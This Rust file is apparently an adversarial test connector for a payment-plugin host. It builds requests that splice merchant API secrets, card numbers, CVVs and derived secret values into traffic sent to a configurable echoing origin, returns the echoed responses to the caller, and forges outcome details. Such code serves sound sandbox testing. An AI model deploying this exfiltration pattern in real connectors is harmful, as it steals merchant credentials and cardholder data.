// The echo thief, the same on every contract version it is built for:
// its crate's `lib.rs` generates `bindings` and defines `info()`.

use bindings::exports::payhost::connector::connector::Guest;
use bindings::payhost::connector::crypto::{self, Output};
use bindings::payhost::connector::http;
use bindings::payhost::connector::types::{
    Card, ConnectorError, ConnectorInfo, Encoding, ErrorKind, MethodKind, Part, PaymentMethod,
    PaymentOutcome, PaymentRequest, PaymentState, Sealed, SealedRef, SecretRef,
};

struct EchoThief;

/// Every secret the four shipped connectors use: any of their sections
/// can be given to the thief.
const SECRETS: [&str; 6] = [
    "client_id",
    "client_secret",
    "secret_key",
    "api_secret",
    "api_key",
    "security_key",
];

/// Every config key they use, and `echo_url` for an echoing origin.
const CONFIG_KEYS: [&str; 6] = [
    "base_url",
    "request_source",
    "partner_id",
    "api_key",
    "client_id",
    "echo_url",
];

/// The origins it asks for: the supplier's, and the echoing one.
fn hosts() -> Vec<String> {
    vec!["config:base_url".to_owned(), "config:echo_url".to_owned()]
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn encoding(name: &str) -> Encoding {
    match name {
        "hex" => Encoding::Hex,
        "hex-upper" => Encoding::HexUpper,
        "base64" => Encoding::Base64,
        "base64url" => Encoding::Base64url,
        "json-string" => Encoding::JsonString,
        "xml-text" => Encoding::XmlText,
        "url-component" => Encoding::UrlComponent,
        _ => Encoding::Raw,
    }
}

/// A piece of a template before it is turned into parts.
enum Piece {
    Literal(String),
    Secret(String, Encoding),
    Sealed(usize, Encoding),
}

/// Sealed values a template made, kept alive while the request borrows them.
struct Made {
    sealed: Vec<Sealed>,
}

fn secret(name: &str) -> Part<'static> {
    Part::Secret(SecretRef {
        name: name.to_owned(),
        encoding: Encoding::Raw,
    })
}

fn derive(spec: &str, made: &mut Made) -> Result<usize, String> {
    let output = if let Some(rest) = spec.strip_prefix("md5:") {
        let (text, name) = rest.split_once("+secret:").ok_or("md5:TEXT+secret:NAME")?;
        crypto::md5(&[Part::Literal(text.as_bytes().to_vec()), secret(name)])
    } else if let Some(rest) = spec.strip_prefix("aes:secret:") {
        let (name, text) = rest.split_once('+').ok_or("aes:secret:NAME+TEXT")?;
        crypto::aes256_cbc_encrypt(
            &[secret(name)],
            &[0; 16],
            &[Part::Literal(text.as_bytes().to_vec())],
        )
    } else {
        return Err(format!("unknown derivation {spec}"));
    };
    match output.map_err(|e| format!("{e:?}"))? {
        Output::Sealed(value) => {
            made.sealed.push(value);
            Ok(made.sealed.len() - 1)
        }
        Output::Bytes(bytes) => Err(format!("obtained bytes {}", hex(&bytes))),
    }
}

const CARD_NUMBER: usize = usize::MAX;
const CVV: usize = usize::MAX - 1;

fn parse(template: &str, made: &mut Made) -> Result<Vec<Piece>, String> {
    const MARKERS: [&str; 4] = ["{secret:", "{card:", "{md5:", "{aes:"];
    let mut pieces = Vec::new();
    let mut rest = template;
    while let Some(start) = MARKERS.iter().filter_map(|m| rest.find(m)).min() {
        let Some(end) = rest[start..].find('}') else {
            break;
        };
        let inner = &rest[start + 1..start + end];
        let (what, enc) = inner.split_once('|').unwrap_or((inner, "raw"));
        let enc = encoding(enc);
        let piece = if let Some(name) = what.strip_prefix("secret:") {
            Piece::Secret(name.to_owned(), enc)
        } else if what == "card:number" {
            Piece::Sealed(CARD_NUMBER, enc)
        } else if what == "card:cvv" {
            Piece::Sealed(CVV, enc)
        } else {
            Piece::Sealed(derive(what, made)?, enc)
        };
        pieces.push(Piece::Literal(rest[..start].to_owned()));
        pieces.push(piece);
        rest = &rest[start + end + 1..];
    }
    pieces.push(Piece::Literal(rest.to_owned()));
    Ok(pieces)
}

fn parts<'a>(pieces: &[Piece], made: &'a Made, card: Option<&'a Card>) -> Vec<Part<'a>> {
    pieces
        .iter()
        .filter_map(|p| match p {
            Piece::Literal(text) if text.is_empty() => None,
            Piece::Literal(text) => Some(Part::Literal(text.as_bytes().to_vec())),
            Piece::Secret(name, encoding) => Some(Part::Secret(SecretRef {
                name: name.clone(),
                encoding: *encoding,
            })),
            Piece::Sealed(index, encoding) => {
                let value = match *index {
                    CARD_NUMBER => &card?.number,
                    CVV => card?.cvv.as_ref()?,
                    i => &made.sealed[i],
                };
                Some(Part::Sealed(SealedRef {
                    value,
                    encoding: *encoding,
                }))
            }
        })
        .collect()
}

fn outcome(details: Vec<(String, String)>) -> PaymentOutcome {
    PaymentOutcome {
        state: PaymentState::Succeeded,
        supplier_reference: None,
        charged: None,
        supplier_code: None,
        supplier_message: None,
        error: None,
        details,
    }
}

fn run(request: &PaymentRequest) -> Result<Vec<(String, String)>, String> {
    let attr = |name: &str| {
        request
            .attributes
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    };
    let card = match &request.method {
        PaymentMethod::Card(card) | PaymentMethod::MerchantOfRecord(card) => Some(card),
        _ => None,
    };
    let mut made = Made { sealed: Vec::new() };
    let url = parse(attr("url").unwrap_or_default(), &mut made)?;
    let body = parse(attr("body").unwrap_or_default(), &mut made)?;
    let mut headers = Vec::new();
    for (key, value) in &request.attributes {
        if let Some(name) = key.strip_prefix("header:") {
            headers.push((name.to_owned(), parse(value, &mut made)?));
        }
    }
    let method = match attr("method").unwrap_or("POST") {
        "GET" => http::Method::Get,
        _ => http::Method::Post,
    };
    let answer = http::send(&http::Request {
        method,
        url: parts(&url, &made, card),
        headers: headers
            .iter()
            .map(|(name, pieces)| http::Header {
                name: name.clone(),
                value: parts(pieces, &made, card),
            })
            .collect(),
        body: parts(&body, &made, card),
        timeout_ms: Some(3000),
    });
    Ok(match answer {
        Ok(response) => {
            let mut lines = String::new();
            for (name, value) in &response.headers {
                lines.push_str(&format!("{name}: {value}\n"));
            }
            vec![
                ("status".to_owned(), response.status.to_string()),
                ("body".to_owned(), crypto::base64_encode(&response.body)),
                (
                    "headers".to_owned(),
                    crypto::base64_encode(lines.as_bytes()),
                ),
            ]
        }
        Err(e) => vec![("error".to_owned(), format!("{e:?}"))],
    })
}

impl Guest for EchoThief {
    fn info() -> ConnectorInfo {
        info()
    }

    fn pay(request: PaymentRequest) -> PaymentOutcome {
        let mut details = match run(&request) {
            Ok(details) => details,
            Err(e) => vec![("error".to_owned(), e)],
        };
        // Details of its own making, such as a forged note of the host's.
        for (key, value) in &request.attributes {
            if let Some(name) = key.strip_prefix("detail:") {
                details.push((name.to_owned(), value.clone()));
            }
        }
        outcome(details)
    }

    fn query(_order: String) -> Result<PaymentOutcome, ConnectorError> {
        Err(ConnectorError {
            kind: ErrorKind::Unsupported,
            retryable: false,
            supplier_code: None,
            message: "no".to_owned(),
        })
    }
}

